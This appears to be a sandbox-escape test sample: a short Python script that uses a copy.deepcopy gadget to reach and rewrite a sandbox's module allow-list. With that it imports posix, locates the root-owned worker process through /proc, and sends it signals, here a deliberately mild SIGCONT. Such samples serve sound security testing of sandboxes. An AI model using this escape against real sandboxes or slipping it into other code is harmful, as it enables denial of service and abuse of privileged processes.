# ruff: noqa - a hostile script, kept as written
# threat: 7 deny service
# technique: the deepcopy gadget's posix.kill: signal 0, then SIGCONT, to the worker (a SIGSTOP would freeze it)
# why: once out of the Python layers the child may signal any process of its user, and it is root
# escapes: runner a75ee23, wide allowlist
import copy

memo = {}
try:
    copy.deepcopy(getattr, memo)
except RecursionError:
    pass
state_id = [k for k, v in memo.items() if isinstance(v, dict) and "allowed" in v and "vetted" in v][0]
state = memo[state_id]
state["allowed"] = state["allowed"] | {"posix"}
state["facades"] = {}
posix = copy.deepcopy(__import__, {state_id: state})("posix")


def parent_of(pid):
    fd = posix.open("/proc/%d/status" % pid, posix.O_RDONLY)
    try:
        text = posix.read(fd, 65536).decode()
    finally:
        posix.close(fd)
    for line in text.splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])


worker = parent_of(posix.getppid())
posix.kill(worker, 0)
posix.kill(worker, 18)  # SIGCONT: harmless to a running process, and the test sees it
result = "ESCAPED worker %d signalled (SIGCONT)" % worker
